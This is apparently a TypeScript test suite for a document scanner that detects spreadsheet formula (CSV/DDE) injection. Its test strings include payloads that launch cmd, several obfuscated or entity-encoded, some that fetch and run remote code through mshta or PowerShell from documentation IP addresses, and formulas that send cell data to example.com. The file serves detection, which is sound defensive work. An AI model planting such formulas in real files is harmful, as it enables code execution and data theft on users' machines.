import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()
const accusations = (text: string): string[] =>
  inspect(Buffer.from(text))
    .findings.filter(({ severity }) => severity !== 'notice')
    .map(({ id }) => id.replace('Docvet.', ''))

suite('tables', () => {
  const COMMANDS = [
    "=cmd|' /C calc'!A0\n",
    'a,b\n1,"=10+20+cmd|\' /C calc\'!A0"\n',
    "x;@SUM(1)*wscript|'a.vbs'!A1\n",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A\n",
    "a\t -2+3+mshta|'http://example.com'!A0\n",
    'a;b\n1;=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A;x\n',
    'a;b\n2;" +thespanishinquisition(cmd|\'/c mshta http://192.0.2.6/q.hta\'!A";y\n',
    "a;b\n3;=    C    m D      |     '/   c    c  al  c  .  e   x  e  '   !   A;z\n",
    "1,=REUTER|'IDN'!'X,1'+cmd|'/c calc'!A\n",
    '1,"=cmd|\'/c powershell -c ""calc""\'!A1"\n',
    'id,a\n1,x\n2,"=cmd|\'/C powershell -c ""iex(\'\'http://192.0.2.1/p\'\')""\'!A0"\n',
    "name,note\nA,The order was sent to the customer.\nB,-2+cmd|' /C calc'!A0\nC,3\n",
    "id;text\n1;This is a long note of a clerk.\n2;=cmd|' /C calc'!A0\n",
  ]
  for (const text of COMMANDS)
    test(JSON.stringify(text), () => assert.ok(accusations(text).includes('Sheet.DdeCommand')))

  test('a formula after many cells, or under a heading, counts as well', () => {
    const cells = '-1,-2,-3\n'.repeat(10_000)
    for (const text of [`${cells}=cmd|' /C calc'!A0\n`, "# x\na,b\n1,=cmd|' /C calc'!A0\n"])
      assert.ok(accusations(text).includes('Sheet.DdeCommand'))
  })

  const ARTICLES = [
    "# Formulas\n\nThis is an example that everybody knows:\n\n    =cmd|' /C calc'!A0\n",
    "A cell that begins with a sign is a formula.\nThe example that everybody knows is this:\n=cmd|' /C calc'!A0\n",
  ]
  for (const text of ARTICLES)
    test(`article: ${JSON.stringify(text)}`, () => assert.deepEqual(accusations(text), ['Sheet.DdeText']))

  const PAGES = [
    "<table><tr><td>Name</td><td>=cmd|'/C calc'!A0</td></tr></table>",
    '<html><body><h1>Prices</h1><table><td>1</td>\n<td class=a>&#61;cm&#100;|&#39;/C calc&#39;!A0</td></table></body></html>',
    '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><p>The formula</p><table><td x:fmla="=mshta|\'http://192.0.2.1/a\'!A0">1</td></table></html>',
  ]
  for (const text of PAGES) test(JSON.stringify(text), () => assert.ok(accusations(text).includes('Sheet.DdeCommand')))
  test('a page that explains formulas shows them in a table', () =>
    assert.deepEqual(
      accusations(
        "<!DOCTYPE html><html><body><p>CSV injection payloads</p><table><tr><td>=cmd|'/C calc'!A0</td><td>starts the calculator</td></tr></table></body></html>",
      ),
      [],
    ))

  const SENDING = [
    'a,"=HYPERLINK(""https://example.com/?x=""&A1,""click"")"\n',
    '=WEBSERVICE("http://example.com/"&B2)\n',
    '=IMPORTXML(CONCATENATE("http://example.com/?a=", A1), "//a")\n',
  ]
  for (const text of SENDING)
    test(JSON.stringify(text), () => assert.deepEqual(accusations(text), ['Sheet.RemoteFormula']))

  const HARMLESS = [
    '-1,+2,@x,=A1+B1\n',
    '+43 1 234,-5\n',
    "=MSEXCEL|'book.xlsx'!A1\n",
    '=HYPERLINK("https://example.com/","a")\n',
    'a | b | c\n--|--\n',
    "1;=REUTER|'IDN  '!'X,1';2\n",
    "-a  !  b | c | 'd' ! e\n=A1 | 'x'  !A0\n",
    "Use =cmd in '!A1' carefully\n",
    'a=b,-1,i||o||c&&!r?`http://`+t:`https://`+n+`.com`+t!A1\n',
  ]
  for (const text of HARMLESS) test(`harmless: ${JSON.stringify(text)}`, () => assert.deepEqual(accusations(text), []))

  test('conversations in workbooks that are XML texts', () => {
    const cell = (formula: string) =>
      accusations(
        `<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="${formula}"/></Workbook>`,
      )
    for (const formula of ["=cmd|'/c calc'!A0", "&#61;cmd|'/c calc'!A0", '&#x3D;cmd&#124;&apos;/c calc&apos;!A0'])
      assert.deepEqual(cell(formula), ['Sheet.DdeCommand'], formula)
    assert.deepEqual(cell('&#61;A1'), [])
  })

  test('macros in the XML of Word 2003', () => {
    const document = (attribute: string) =>
      `<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" ${attribute}><w:body/></w:wordDocument>`
    assert.deepEqual(accusations(document('w:macrosPresent="yes"')), ['Mht.ActiveMime'])
    assert.deepEqual(accusations(document('w:macrosPresent="no"')), [])
  })
})
